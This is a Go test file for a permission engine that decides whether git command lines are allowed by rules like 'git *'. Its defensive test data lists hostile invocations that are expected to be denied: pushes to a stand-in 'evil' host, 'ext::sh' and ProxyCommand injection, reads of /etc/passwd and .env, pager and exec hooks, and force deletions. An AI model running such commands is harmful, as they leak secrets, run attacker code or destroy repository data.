package permissions

import (
	"strings"
	"testing"
)

// judged is a command line and its expected verdict under a rule that allows commands.
type judged struct {
	rule, line string
	want       Effect
	reason     string
}

func checkLines(t *testing.T, hosts []string, lines []judged) {
	t.Helper()
	for _, c := range lines {
		text := allowing(c.rule)
		for _, h := range hosts {
			text += (&Rule{Effect: Allow, Host: h}).Text()
		}
		if got := rulebook(t, text).Judge(lineFacts(c.line)); got.Effect != c.want {
			t.Errorf("%q with %q: %v, want %v (%s); %+v", c.line, c.rule, got.Effect, c.want, c.reason, got.Verdicts)
		}
	}
}

func TestGitLooks(t *testing.T) {
	var lines []judged
	for _, line := range []string{
		"status", "status -sb", "status --porcelain=v2 --branch src", "diff", "diff --stat HEAD~3..HEAD -- src", "diff --cached -U5 a.go",
		"diff main...feature --name-only", "diff -w -M90% HEAD^ HEAD", "log", "log --oneline -10", "log -p -n 3 --follow -- a.go",
		"log --graph --all --decorate --format='%h %s'", "log --since '2 weeks ago' --author=me --grep 'fix'", "log -S'foo(' -- src",
		"log -L 1,20:a.go", "log origin/main..HEAD", "log 'HEAD@{1}'", "show HEAD:a.go", "show --stat 'HEAD^{}'", "show v1.0 --no-patch",
		"shortlog -sn HEAD", "blame -L 10,20 -w a.go", "blame HEAD~2 -- a.go", "branch", "branch -a", "branch -vv", "branch --show-current",
		"branch --merged main", "branch --list 'feature/x'", "branch feature", "tag", "tag -l 'v1.0'", "tag -n3 --sort=-creatordate",
		"remote -v", "remote get-url origin", "remote show origin", "rev-parse HEAD", "rev-parse --abbrev-ref HEAD",
		"rev-parse --show-toplevel", "rev-parse --short=8 HEAD", "rev-list --count HEAD", "ls-files -m -o --exclude-standard",
		"ls-files --error-unmatch a.go", "ls-tree -r --name-only HEAD src", "cat-file -p HEAD:a.go", "describe --tags --always --dirty",
		"reflog", "reflog -10", "reflog show main", "merge-base main HEAD", "name-rev HEAD", "grep -n 'func main'", "grep -rn -e a -e b -- src",
		"grep -C3 x HEAD -- src", "config --get user.name", "config user.email", "config --list --show-origin", "config get user.name",
		"worktree list", "submodule status", "count-objects -vH", "diff-tree --no-commit-id --name-only -r HEAD",
		"for-each-ref --sort=-committerdate --format='%(refname)' refs/heads", "symbolic-ref --short HEAD", "show-ref --heads",
		"check-ignore -v a.go", "fsck --no-dangling", "archive HEAD src", "notes show HEAD", "-C sub log -3", "--no-pager diff",
		"stash", "ls-remote --heads origin", "cherry -v main", "log -1 --pretty=%B", "whatever",
	} {
		want := Allow
		if line == "stash" || line == "whatever" {
			want = None
		}
		lines = append(lines, judged{"git *", "git " + line, want, "an everyday look"})
	}
	checkLines(t, nil, lines)
}

func TestGitChanges(t *testing.T) {
	for _, line := range []string{
		"add .", "add -A", "add -u src/a.go", "commit -m 'x: y'", "commit -am x", "commit --amend --no-edit", "commit -F msg.txt", "restore a.go",
		"restore --staged --source HEAD~1 a.go", "checkout main", "checkout -b feature origin/main", "checkout HEAD -- a.go", "checkout -",
		"switch -c feature", "switch main", "reset", "reset --soft HEAD~1", "reset HEAD a.go", "rebase main", "rebase --continue",
		"rebase -i --autosquash HEAD~3", "rebase --onto main topic", "merge --no-ff -m x feature", "merge --abort", "cherry-pick -x abc123",
		"revert --no-edit HEAD", "pull", "pull --rebase origin main", "push", "push -u origin HEAD", "push origin main:main --tags",
		"push -o ci.skip origin main", "fetch", "fetch --all --prune", "fetch origin main --depth=1", "stash", "stash -u -m wip", "stash push -m wip -- a.go", "stash pop", "stash apply 'stash@{1}'", "mv a b", "rm --cached a", "rm -r old",
		"clean -nd", "init", "worktree add ../w/x", "worktree add x main", "bisect start HEAD v1", "bisect good", "bisect reset", "format-patch -3 --stdout",
		"remote add fork git@example.com:me/x.git", "remote set-url origin https://example.com/x", "notes add -m x HEAD",
	} {
		sub, _, _ := strings.Cut(line, " ")
		second := ""
		if sub == "remote" || sub == "worktree" || sub == "notes" {
			second = strings.Fields(line)[1] + " "
		}
		checkLines(t, []string{"example.com"}, []judged{
			{"git " + sub + " " + second + "*", "git " + line, Allow, "the rule names it"},
			{"git *", "git " + line, None, "no rule names it"},
		})
	}
}

func TestGitAsked(t *testing.T) {
	var lines []judged
	add := func(reason string, list ...string) {
		for _, line := range list {
			lines = append(lines, judged{"git *", "git " + line, None, reason})
			if words := strings.Fields(line); !strings.HasPrefix(words[0], "-") && len(words) > 1 {
				lines = append(lines, judged{"git " + words[0] + " *", "git " + line, None, reason})
			}
		}
	}
	add("it runs a program",
		"-c core.pager=x log", "--exec-path=x log", "--config-env=core.pager=X log", "diff --ext-diff", "diff --ext", "log -p --ext-diff", "show --textconv HEAD",
		"blame --textconv a", "grep -Oless x", "grep -nO x", "grep --open-files-in-pager=less x", "grep --open x", "rebase -x 'make' main", "rebase -ix make main",
		"rebase --exec=make main", "rebase --exe make main", "bisect run make", "merge -s evil main", "merge --strategy=evil main", "rebase -s evil main",
		"pull -s evil", "clone -u ./x example.com:y", "clone --upload-pack=./x example.com:y", "clone -c core.fsmonitor=x example.com:y",
		"clone --config core.fsmonitor=x example.com:y", "clone --template=x example.com:y", "init --template=x", "init --templ x", "fetch --upload-pack=./x origin",
		"fetch --upload-pack ./x", "push --receive-pack=x origin", "push --exec=x", "ls-remote --upload-pack=x origin", "archive --remote=x --exec=y HEAD",
		"difftool", "mergetool", "submodule foreach ls", "for-each-repo --config=x ls", "filter-branch x", "merge-index x -a", "credential fill", "help -w log",
		"config core.pager x", "config --add core.pager x", "config -e", "config set core.pager x", "commit -Sx -m y", "web--browse x", "instaweb", "hook run x")
	add("another repository's settings", "--git-dir=x log", "--git-dir x log", "--work-tree=/ status", "--namespace=x log", "-C ../x log", "-C /etc status")
	add("it writes a file",
		"diff --output=../x", "diff --output x.txt", "diff --outp=x", "log -p --output=x", "show --output=x HEAD", "shortlog -n --output=x", "archive -o x.tar HEAD",
		"archive -vo x HEAD", "archive --output=x HEAD", "format-patch -o ../x HEAD", "format-patch -o x HEAD", "stash show --output=x", "reflog --output=x",
		"apply x.patch", "apply --unsafe-paths x", "am x", "bundle create x HEAD", "symbolic-ref HEAD refs/heads/x", "fsck --lost-found", "mv a ../b", "mv a .ssh/b",
		"rm ../a", "restore .env", "checkout HEAD -- .env", "worktree add ../x", "init ../x", "init --separate-git-dir=x", "clone example.com:x ../y",
		"clone --separate-git-dir=../x example.com:y", "hash-object -w x", "update-ref HEAD x", "branch --edit-description")
	add("it reads a file elsewhere, or a sensitive one",
		"diff --no-index a b", "diff /etc/passwd a", "diff a ../b", "diff -U /etc/passwd b", "diff --no-index -- a /etc/passwd", "diff -- .env", "show HEAD:.env", "show HEAD:../x",
		"log -- /etc", "log -O/etc/passwd", "diff -O ../x", "blame --contents=/etc/passwd a", "blame --contents .env a", "blame -S ../x a", "blame --ignore-revs-file=/etc/passwd a",
		"grep x ../y", "grep -f /etc/passwd", "grep -nf/etc/passwd", "grep --no-index x", "grep --untracked x", "grep x .env", "grep -e x .env", "cat-file -p HEAD:.env",
		"log -L :f:.env", "cat-file --batch", "cat-file --textconv HEAD:a", "tag -F .env x", "tag -F/etc/passwd x", "commit -F .env", "commit -F../x", "commit -t ../x", "commit --file=/etc/passwd",
		"commit --template ../x -m y", "merge -F ../x y", "notes add -F /etc/passwd", "add .env", "add -f .env", "config -f ../x --list", "config --file=/etc/x --list",
		"ls-files -X ../x", "archive --add-file=../x HEAD", "archive --add-file .env HEAD", "format-patch --signature-file=.env HEAD")
	add("a list of files", "add --pathspec-from-file=x", "commit -m y --pathspec-from-file x", "rm --pathspec-from-file=x", "checkout --pathspec-from-file=x", "reset --pathspec-from-file=x",
		"restore --pathspec-from-file=x", "stash push --pathspec-from-file=x")
	add("another host, or none that is known",
		"push -o ci.skip me@evil:x", "push evil.com:x", "push --repo=evil.com:x", "push https://evil.com/x main", "fetch evil:x", "fetch 'ext::sh -c x'", "fetch ext::x=https://example.com/",
		"fetch foo::bar", "fetch foo://example.com/x", "fetch file:///etc/x", "fetch ../x", "fetch /etc", "pull evil:x", "pull -v evil:x main", "clone evil:x", "clone me@evil:x@example.com",
		"clone --recurse-submodules example.com:x", "clone ssh://-oProxyCommand=x/y", "fetch -- -oProxyCommand=x:y", "ls-remote evil:x", "ls-remote https://evil/x", "remote add x evil:y",
		"remote set-url x evil:y", "remote add x ext::sh", "submodule update --init", "submodule add evil:x", "archive --remote=evil:x HEAD", "send-email x", "request-pull a b", "remote show evil:x",
		"fetch --multiple origin evil:x", "fetch --recurse-submodules", "push --recurse-submodules=on-demand", "imap-send", "daemon")
	add("it destroys what the rule does not name",
		"branch -D x", "branch -d x", "branch -qD x", "branch -m a b", "branch -f x HEAD", "branch --delete x", "branch --forc x", "tag -d x", "tag -f x", "reset --hard", "reset --har", "reset --merge x", "reset --keep x", "clean -f",
		"clean -fdx", "clean -ndf", "clean --force", "checkout -f x", "checkout --force x", "checkout -B x", "switch -C x", "switch -f x", "switch --discard-changes x", "push -f", "push --force",
		"push -uf origin x", "push --force-with-lease", "push --force-with-lease=x", "push --mirror", "push -d origin x", "push --delete origin x", "push --prune origin", "push origin :x",
		"push origin +x", "push origin x +y:z", "fetch -f", "fetch origin +a:b", "stash drop", "stash clear", "reflog expire --all", "reflog delete 'HEAD@{0}'", "reflog drop x", "worktree remove x",
		"rm -f x", "mv -f a b", "gc --prune=now", "prune", "update-ref -d x", "symbolic-ref -d x", "config --unset x.y", "config --remove-section x", "remote remove x", "remote rm x", "remote prune x", "notes prune")
	add("an option that is not known, or abbreviated", "log --unknown", "log --onel", "status --no-such", "diff --st", "commit --mess=x", "log -Z")
	checkLines(t, []string{"example.com"}, lines)
	for i := range lines { // and with any host
		if strings.Contains(lines[i].line, "evil") && !strings.Contains(lines[i].line, "::") {
			continue
		}
		checkLines(t, []string{"*"}, lines[i:i+1])
	}
}

func TestGitNamed(t *testing.T) {
	checkLines(t, nil, []judged{
		{"git reset --hard *", "git reset --hard HEAD~1", Allow, "the rule names the option"},
		{"git push --force-with-lease *", "git push --force-with-lease origin feature", Allow, "the rule names the option"},
		{"git clean -fd *", "git clean -fd build", Allow, "the rule names the options"},
		{"git branch -D *", "git branch -D feature", Allow, "the rule names the option"},
		{"git stash drop *", "git stash drop", Allow, "the rule names it"},
		{"git -c core.quotepath=off log *", "git -c core.quotepath=off log -3", Allow, "the rule names the setting"},
		{"git bisect run go vet *", "git bisect run go vet", Allow, "the rule names the program"},
		{"git push *", "git -C sub push", Allow, "an option before the subcommand"},
		{"git reset --hard *", "git reset --hard -q --pathspec-from-file=x", None, "a list of files"},
	})
}

// Hooks and settings of a bare repository are not protected.
func TestGitRepositoryByItsFiles(t *testing.T) {
	exist := map[string]bool{"/w": true, "/w/.git": true, "/w/file": true}
	for dir, names := range map[string]string{"bare.git": "HEAD objects refs", "sub": "HEAD objects refs", "tree": "HEAD commondir", "own": ".git", "src": "x.go"} {
		exist["/w/"+dir] = true
		for name := range strings.FieldsSeq(names) {
			exist["/w/"+dir+"/"+name] = true
		}
	}
	f := lineFacts("")
	f.Resolve = func(p string) FileFact {
		fact := project(p)
		fact.Exists = exist[fact.Path]
		return fact
	}
	b := rulebook(t, allowing("git *", "git push *", "git fetch *", "git clone *"))
	for line, want := range map[string]Effect{
		"git push bare main": None, "git push ./bare.git": None, "git fetch bare.git": None, "git clone sub x": None, "git push ./tree main": None, "git fetch ./file": None,
		"git ls-remote tree": None, "git push origin main": Allow, "git fetch ./own": Allow, "git push . a:b": Allow,
		"git -C tree ls-remote o": None, "git -C sub log": None, "cd tree && git status": None, "cd src && git status": Allow, "git -C own log": Allow,
	} {
		f.Commands = []CommandFact{{Line: line, Dir: "/w"}}
		if got := b.Judge(f); got.Effect != want {
			t.Errorf("%s: got %v, want %v; %+v", line, got.Effect, want, got.Verdicts)
		}
	}
}
